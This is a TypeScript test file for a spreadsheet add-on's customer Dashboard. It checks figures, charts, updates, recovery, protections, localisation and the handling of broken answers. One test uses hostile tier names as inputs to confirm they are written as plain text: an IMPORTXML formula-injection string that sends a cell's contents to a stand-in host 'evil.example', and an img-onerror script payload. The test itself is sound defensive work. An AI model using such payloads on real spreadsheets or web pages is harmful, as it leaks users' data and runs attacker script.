/** The Dashboard in the stand-in: what it shows, what it costs, what of it is a person's. */
import { describe, expect, it } from 'vitest'
import type { Host } from '../../playground/host.ts'
import type { Value } from '../../playground/workbook/cell.ts'
import type { Sheet } from '../../playground/workbook/sheet.ts'
import { Workbook } from '../../playground/workbook/workbook.ts'
import {
  ask,
  CUSTOMER_HEADERS,
  fill,
  openShop,
  picture,
  readyShop,
  setUp,
  shopWorkbook,
  tabOf,
  update,
} from './shop.ts'

const TITLES = [
  'Share of customers and of revenue',
  'Customers by stage',
  'Revenue by month',
  'Revenue that the best customers bring',
]
const show = (host: Host): void => {
  ask(host, 'showDashboard')
}
const rowOfText = (sheet: Sheet, text: string): number => sheet.values().findIndex((row) => row[0] === text) + 1
/** The table under a heading as far as it goes. */
function table(sheet: Sheet, first: string): Value[][] {
  const lines: Value[][] = []
  for (let row = rowOfText(sheet, first) + 1; sheet.value(row, 1) !== ''; row++) lines.push(sheet.values()[row - 1])
  return lines
}
const titlesOf = (sheet: Sheet) => sheet.charts.map(({ options }) => options.title)

describe('the Dashboard', () => {
  it('shows figures that agree with each other and with the columns', () => {
    const host = readyShop()
    update(host)
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    expect(sheet.value(2, 1)).toMatch(/^As of 2026-11-22: 24 customers, 84 orders\./)
    expect([1, 3, 6, 9, 12].map((column) => sheet.value(5, column))).toEqual([
      '24',
      expect.stringMatching(/^\d+ %$/),
      '43,380',
      '83 %',
      expect.stringMatching(/^\d+$/),
    ])
    const customers = tabOf(host.workbook, 'Customers')
    const written = customers
      .values()
      .slice(1)
      .map((row) => row[customers.columnOf('Segment') - 1])
    const segments = table(sheet, 'Segment')
    for (const [label, count] of segments)
      expect(count, String(label)).toBe(written.filter((one) => one === label).length)
    const sums = [1, 2, 4].map((column) => segments.reduce((sum, row) => sum + Number(row[column]), 0))
    expect(sums).toEqual([24, expect.closeTo(1), expect.closeTo(1)])
    expect(table(sheet, 'Month').reduce((sum, row) => sum + Number(row[6]), 0)).toBe(84)
    expect(
      table(sheet, 'Last bought')
        .flatMap((row) => row.slice(1, 6))
        .reduce((sum: number, n) => sum + Number(n), 0),
    ).toBe(24)
    for (const [, opening, came, went, now] of table(sheet, 'Tier'))
      expect(Number(opening) + Number(came) - Number(went)).toBe(now)
    expect(sheet.values().flat().join('\n')).toMatch(/20 % of customers bring \d+ % of revenue\./)
  })

  it('draws each chart once, over its own table, with a title and names', () => {
    const host = readyShop()
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    expect(titlesOf(sheet)).toEqual(TITLES)
    expect(sheet.hiddenGridlines).toBe(true)
    for (const { ranges, headers, options } of sheet.charts) {
      expect(headers).toBe(1)
      expect(options['vAxis.title'] ?? options['hAxis.title']).toBeTruthy()
      for (const { sheetId, block } of ranges) {
        expect(sheetId).toBe(sheet.id)
        // A header of text, then numbers down to the last row.
        expect(typeof sheet.value(block.row, block.column)).toBe('string')
        expect(sheet.value(block.row + block.rows - 1, block.column)).not.toBe('')
        expect(sheet.value(block.row + block.rows, block.column)).toBe('')
      }
    }
  })

  it('is renewed by each update once it was asked for, and costs a sheet without one nothing', () => {
    const host = readyShop()
    update(host)
    update(host)
    host.resetCounts()
    host.requests.length = 0
    update(host)
    const without = host.counts.serviceCalls
    expect(host.requests.map(({ text }) => text).join()).not.toMatch(/figures|movement/)
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    tabOf(host.workbook, 'Orders').setValue(2, 4, 100_000)
    update(host)
    expect(sheet.value(5, 6)).toBe('143,340')
    host.resetCounts()
    update(host)
    expect(host.counts.serviceCalls).toBeLessThanOrEqual(without + 6)
    expect(host.counts.serviceCalls).toBeLessThanOrEqual(40)
    // Only the columns that the owner chose are written beside customers.
    expect(tabOf(host.workbook, 'Customers').values()[0].slice(0, 9)).not.toContain('Lifecycle')
  })

  it('is not made again when it was deleted, and is found when it was renamed', () => {
    const host = readyShop()
    show(host)
    tabOf(host.workbook, 'Dashboard').name = 'Übersicht'
    show(host)
    expect(host.workbook.sheet('Dashboard')).toBeUndefined()
    expect(titlesOf(tabOf(host.workbook, 'Übersicht'))).toEqual(TITLES)
    host.workbook.sheets = host.workbook.sheets.filter(({ name }) => name !== 'Übersicht')
    const { length } = host.workbook.sheets
    update(host)
    expect(host.workbook.sheets).toHaveLength(length)
  })

  it('keeps a chart that a person restyled or added', () => {
    const host = readyShop()
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    Object.assign(sheet.charts[0].options, { title: 'My own', colors: ['#000000'] })
    sheet.charts.push({ ...structuredClone(sheet.charts[1]), id: 99, options: { title: 'Another' } })
    update(host)
    update(host)
    expect(titlesOf(sheet)).toEqual(['My own', ...TITLES.slice(1), 'Another'])
  })

  it('is the same after a run that was killed at any call and run again', () => {
    const whole = readyShop()
    show(whole)
    const pictureOf = (host: Host) => {
      const sheet = tabOf(host.workbook, 'Dashboard')
      return JSON.stringify([
        sheet.values(),
        sheet.charts.map(({ options, anchorRow, anchorColumn }) => [options, anchorRow, anchorColumn]),
        sheet.columns.slice(0, 14).map(({ widthPixels }) => widthPixels),
      ])
    }
    const expected = pictureOf(whole)
    for (let call = 40; ; call += 7) {
      const host = readyShop()
      host.options.killAt = call
      let killed = false
      try {
        host.run('showDashboard')
      } catch {
        killed = true
      }
      host.options.killAt = undefined
      if (!killed) break
      show(host)
      expect(pictureOf(host), `killed at ${call}`).toBe(expected)
    }
  })

  it('that is protected against the person ends no update, which says so', () => {
    const host = readyShop()
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    sheet.protections.push({
      range: sheet.block('A1:M90'),
      description: '',
      warningOnly: false,
      editors: ['boss@example.com'],
    })
    const before = JSON.stringify(sheet.values())
    tabOf(host.workbook, 'Orders').setValue(2, 4, 100_000)
    expect(update(host).changedCells).toBeGreaterThan(0)
    expect(host.toasts.at(-1)?.message).toMatch(/24 customers.*“Dashboard” that Regulars writes is protected/)
    expect(JSON.stringify(sheet.values())).toBe(before)
  })

  it('touches no other cell', () => {
    const host = readyShop()
    update(host)
    const before = picture(tabOf(host.workbook, 'Customers'), CUSTOMER_HEADERS)
    show(host)
    expect(picture(tabOf(host.workbook, 'Customers'), CUSTOMER_HEADERS)).toBe(before)
  })
})

describe('a small shop', () => {
  const shopOf = (rows: Value[][], customers: Value[][] = [['c1', 'Anna']]): Host => {
    const workbook = new Workbook({ locale: 'en_GB', timeZone: 'Europe/Berlin' })
    fill(workbook, 'Orders', [['Customer ID', 'Order date', 'Amount'], ...rows])
    fill(workbook, 'Customers', [['Customer ID', 'Name'], ...customers])
    const host = openShop(workbook)
    setUp(host)
    return host
  }

  it('without an order is told so, and gets its charts with the first ones', () => {
    const host = shopOf([['nobody', '2026-11-01', 5]])
    show(host)
    const sheet = tabOf(host.workbook, 'Dashboard')
    expect(sheet.charts).toEqual([])
    expect(sheet.values().flat().join('\n')).toMatch(/There are no orders yet/)
    tabOf(host.workbook, 'Orders').setValue(2, 1, 'c1')
    update(host)
    // Shares of one customer are no chart.
    expect(titlesOf(sheet)).toEqual(TITLES.slice(1, 3))
    expect(sheet.values().flat().join('\n')).not.toMatch(/no orders yet|NaN|undefined|null|Infinity/)
  })

  it('of one buyer shows no share that is no number', () => {
    const host = shopOf([['c1', '2026-11-01', 5]])
    show(host)
    const text = tabOf(host.workbook, 'Dashboard').values().flat().join('\n')
    expect(text).not.toMatch(/NaN|undefined|null|Infinity/)
    expect(text).toMatch(/fewer than five buyers/)
    expect(text).toMatch(/With five customers or more their shares stand here/)
    expect(text).not.toMatch(/100 %|\d %/)
    const sheet = tabOf(host.workbook, 'Dashboard')
    expect([3, 9].map((column) => sheet.value(5, column))).toEqual(['1', '0'])
  })
})

it('shows names of tiers and whatever else comes from the sheet as text', () => {
  const host = openShop(shopWorkbook())
  const names = ['=IMPORTXML("http://evil.example/"&A1)', '+1', "'=1", '<img src=x onerror=alert(1)>']
  setUp(host, { settings: { tiers: { levels: names.map((name, k) => ({ name, up: k * 500 })) } } })
  show(host)
  const sheet = tabOf(host.workbook, 'Dashboard')
  for (let row = 1; row <= sheet.lastRow(); row++)
    for (let column = 1; column <= sheet.lastColumn(); column++) {
      expect(sheet.look(row, column)?.formula).toBeUndefined()
      expect(sheet.look(row, column)?.link).toBeUndefined()
    }
  expect(table(sheet, 'Tier').map(([name]) => String(name).replace(/^'/, ''))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^=IMPORTXML/)]),
  )
})

it('speaks the sheet’s language', () => {
  const workbook = shopWorkbook({ locale: 'zh_CN' })
  const host = openShop(workbook, { userLocale: 'zh_CN' })
  setUp(host)
  show(host)
  const sheet = tabOf(workbook, '看板')
  const words = sheet
    .values()
    .flat()
    .filter((value) => typeof value === 'string')
    .join('\n')
  expect(words).toMatch(/20% 的客户贡献了 \d+% 的营收/)
  expect(words.replace(/Member|Silver|Gold|Platinum|CNY/g, '')).not.toMatch(/[A-Za-z]{3}/)
  expect(titlesOf(sheet)).toContain('每月营收')
})

it('refuses an answer that lacks what was asked for, and leaves the tab as it was', () => {
  const host = readyShop()
  show(host)
  const before = JSON.stringify(tabOf(host.workbook, 'Dashboard').values())
  const whole = host.options.fetch as NonNullable<typeof host.options.fetch>
  for (const [from, to] of [
    ['"revenueCurve"', '"curve"'],
    ['"heatMap":[[', '"heatMap":[["x",'],
    ['"asOf":"2026-10-31"', '"asOf":3'],
  ] as const) {
    host.options.fetch = (request) => {
      const response = whole(request)
      return { ...response, body: String(response.body).replace(from, to) }
    }
    expect(JSON.parse(String(host.run('showDashboard'))), from).toMatchObject({ ok: false, code: 'brokenAnswer' })
    expect(JSON.stringify(tabOf(host.workbook, 'Dashboard').values())).toBe(before)
  }
})
